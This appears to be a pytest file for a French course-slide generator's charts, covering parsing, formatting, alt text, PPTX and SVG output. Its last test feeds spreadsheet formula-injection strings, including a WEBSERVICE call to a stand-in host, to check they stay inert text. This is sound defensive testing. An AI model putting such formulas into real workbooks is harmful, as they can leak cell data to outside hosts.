"""A `:::{graphique}` box: a native chart on slides, a drawing with its figures on pages, words where one can't see."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
from lxml import etree
from pptx.enum.chart import XL_CHART_TYPE
from pptx.oxml.ns import qn

from coursegen.charter import load_charter
from coursegen.content.chart_svg import chart_svg
from coursegen.content.charts import chart_of, figure_words
from coursegen.content.markdown import parse_directive
from coursegen.errors import InputError
from coursegen.outputs.slides import write_deck
from coursegen.slides_model import Chart, ChartKind, Deck, SlideKind, SlideSection
from tests.slides.corporate import CORPORATE
from tests.slides.look import drawn_deck, words
from tests.slides.sample import bullets, sample_courseware, slide

TABLE = """
| Antenne | 2022 | 2023 |
| --- | ---: | ---: |
| Nord | 12,5 | 1 250 |
| Côte | 40 % | – |
"""


def chart(kind: str = "barres", head: str = "Retards", table: str = TABLE, options: str = "") -> Chart:
    directive = parse_directive(f"{{graphique}} {head}", f":type: {kind}\n{options}{table}")
    assert directive is not None
    return chart_of(directive, "fr")


def drawn(kind: str, *blocks: Any, template: bytes | None = None) -> Any:
    one = slide("c", SlideKind.CONTENT, "Les retards reculent", *blocks, chart(kind))
    return drawn_deck(one, template=template).slides[0]


def graphic(shown: Any) -> Any:
    return next(shape for shape in shown.shapes if shape.has_chart)


def test_figures_are_read_as_people_write_them() -> None:
    first, second = chart().series
    assert first.values == (12.5, 40.0)
    assert second.values == (1250.0, None), "a dash says that there is no figure"
    assert chart().categories == ("Nord", "Côte")


def test_figures_are_written_as_people_read_them() -> None:
    assert figure_words(1250, "jours") == "1\u202f250\u00a0jours"
    assert figure_words(12.5, "%") == "12,5\u202f%"
    assert figure_words(-3, "") == "\u22123"
    assert figure_words(None, "%") == "–"


def test_what_a_small_chart_shows_is_said_whole_unless_the_author_says_it() -> None:
    assert chart().alt.startswith("Diagramme en barres\u00a0: Retards. 2022 – Nord\u00a0: 12,5")
    assert chart(options=":texte: Le nord paie plus vite.\n").alt == "Le nord paie plus vite."


def test_a_large_chart_is_said_by_its_ends() -> None:
    rows = "".join(f"| {year} | {year - 1990} |\n" for year in range(2000, 2024))
    said = chart("lignes", table=f"\n| Année | Dossiers |\n| --- | --- |\n{rows}").alt
    assert "de 10 (2000) à 33 (2023)" in said and "2011" not in said


def test_a_chart_without_a_table_is_refused_with_the_remedy() -> None:
    with pytest.raises(InputError) as caught:
        chart(table="\nRien.\n")
    assert "tableau" in caught.value.remedy


@pytest.mark.parametrize(
    ("kind", "type_"),
    [
        ("barres", XL_CHART_TYPE.BAR_CLUSTERED),
        ("colonnes", XL_CHART_TYPE.COLUMN_CLUSTERED),
        ("lignes", XL_CHART_TYPE.LINE_MARKERS),
        ("secteurs", XL_CHART_TYPE.PIE),
    ],
)
def test_charts_are_native_described_and_speak_french(kind: str, type_: Any) -> None:
    shown = graphic(drawn(kind))
    assert shown.chart.chart_type == type_
    assert "Nord" in shown._element.find(f".//{qn('p:cNvPr')}").get("descr")
    assert list(shown.chart.plots[0].categories) == ["Nord", "Côte"]
    spoken = {node.get("lang") for node in shown.chart._chartSpace.iter(qn("a:defRPr"))}
    assert spoken == {"fr-FR"}


@pytest.mark.parametrize("kind", ["barres", "colonnes", "lignes"])
def test_axis_ids_are_those_every_reader_takes(kind: str) -> None:
    """LibreOffice reads them signed: over 2^31 both axes get one id, and the names of the categories vanish."""
    space = graphic(drawn(kind)).chart._chartSpace
    ids = [int(node.get("val")) for node in space.iter(qn("c:axId"))]
    assert len(set(ids)) == 2 and min(ids) >= 0 and max(ids) < 2**31


@pytest.mark.parametrize("name", CORPORATE)
def test_charts_are_seen_on_every_template(name: str) -> None:
    shown = graphic(drawn("colonnes", template=CORPORATE[name]()))
    used = {node.get("val") for node in shown.chart._chartSpace.iter(qn("a:schemeClr"))}
    assert used and all(colour.startswith(("accent", "tx", "bg")) for colour in used)


def test_a_chart_stands_beside_a_short_text_and_alone_without() -> None:
    beside, alone = graphic(drawn("secteurs", bullets("Un point"))), graphic(drawn("secteurs"))
    assert beside.left > alone.left and beside.width < alone.width


def test_the_caption_is_written_and_no_title_twice() -> None:
    shown = drawn("barres")
    assert "Retards" in words(shown)
    assert not graphic(shown).chart.has_title


def test_the_same_figures_give_the_same_bytes_workbook_included() -> None:
    one = slide("c", SlideKind.CONTENT, "Les retards reculent", chart())
    deck = Deck(key="m", title="M", number=1, hue=1, sections=(SlideSection("S", (one,)),))
    made = [write_deck(sample_courseware(), deck, load_charter("socieux")) for _time in range(2)]
    assert made[0] == made[1]
    with zipfile.ZipFile(io.BytesIO(made[0])) as archive:
        inner = next(name for name in archive.namelist() if name.endswith(".xlsx"))
        with zipfile.ZipFile(io.BytesIO(archive.read(inner))) as workbook:
            core = workbook.read("docProps/core.xml").decode()
            assert {entry.date_time[0] for entry in workbook.infolist()} == {1980}
    assert re.findall(r"\d{4}-\d\d-\d\dT", core) == ["2000-01-01T"] * 2


@pytest.mark.parametrize("kind", list(ChartKind))
def test_the_drawing_of_a_page_says_its_title_and_all_its_words(kind: ChartKind) -> None:
    name = {"bars": "barres", "columns": "colonnes", "lines": "lignes", "pie": "secteurs"}[kind.value]
    drawing = chart_svg(chart(name, head="Retards <b> & cie"), load_charter("cipres").module_hues)
    root = etree.fromstring(drawing.svg.encode())
    space = "{http://www.w3.org/2000/svg}"
    assert root.findtext(f"{space}title") == "Retards <b> & cie"
    assert "Nord" in (root.findtext(f"{space}desc") or "")
    said = [node.text for node in root.iter(f"{space}text")]
    assert any("Nord" in (text or "") for text in said) and any("40" in (text or "") for text in said)
    for node in root.iter(f"{space}text"):
        assert 0 <= float(node.get("x", "-1")) <= drawing.width and 0 <= float(node.get("y", "-1")) <= drawing.height


def test_words_of_a_chart_never_become_formulas_or_links_of_its_workbook() -> None:
    import io
    import zipfile

    from coursegen.slides_model import ChartKind, Series

    hostile = Chart(
        kind=ChartKind.BARS,
        categories=('=WEBSERVICE("http://x.example/?"&A1)', "http://x.example/a"),
        series=(Series('=HYPERLINK("http://x.example")', (1.0, 2.0)),),
        alt="Deux barres",
    )
    shown = drawn_deck(slide("c", SlideKind.CONTENT, "Les retards reculent", hostile)).slides[0]
    book = zipfile.ZipFile(io.BytesIO(graphic(shown).chart.part.chart_workbook.xlsx_part.blob))
    parts = {name: book.read(name).decode("utf-8") for name in book.namelist()}
    assert not [name for name, text in parts.items() if "<f>" in text or "<hyperlink" in text]
    assert "WEBSERVICE" in parts["xl/sharedStrings.xml"], "the words are there, as words"
    assert "Microsoft Excel" not in "".join(parts.values())
